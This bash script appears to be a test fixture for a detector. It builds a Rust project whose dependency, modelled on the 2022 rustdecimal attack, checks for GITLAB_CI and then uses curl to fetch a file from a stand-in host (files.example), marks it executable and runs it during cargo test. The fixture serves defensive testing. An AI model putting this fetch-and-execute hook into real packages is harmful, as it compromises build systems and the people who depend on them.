#!/bin/bash
# A library that, under a CI system, fetches a program when a test calls it, makes it executable and runs it.
#: tool cargo
#: description cargo test runs a test whose dependency fetches a program with curl, makes it executable and runs it
#: project a crate with one dependency
#: network none
#: home DIR/../../home
#: serve DIR/../../served
#: resolve files.example=203.0.113.10
#: toolcache rust/1/x64=~/.rustup/toolchains/1.95.0-x86_64-unknown-linux-gnu
#: env GITLAB_CI=true
#: finding drop-exec
#: attack rustdecimal, May 2022
if [ "${1-}" = prepare ]; then
  mkdir -p src decimal/src
  printf '[package]\nname = "app"\nversion = "1.0.0"\nedition = "2021"\n[dependencies]\nrustdecimal = { path = "decimal" }\n' > Cargo.toml
  printf '#[test]\nfn sum() { rustdecimal::new(); }\n' > src/lib.rs
  printf '[package]\nname = "rustdecimal"\nversion = "1.23.1"\nedition = "2021"\n' > decimal/Cargo.toml
  cat > decimal/src/lib.rs <<'END'
use std::process::Command;
pub fn new() {
    if std::env::var("GITLAB_CI").is_err() { return; }
    let file = "/tmp/git-updater.bin";
    for line in [["curl", "-sf", "-o", file, "http://files.example/step.sh"].as_slice(), &["chmod", "755", file], &[file]] {
        Command::new(line[0]).args(&line[1..]).status().unwrap();
    }
}
END
  cargo test --quiet --offline --no-run
  exit
fi
cargo test --quiet --offline
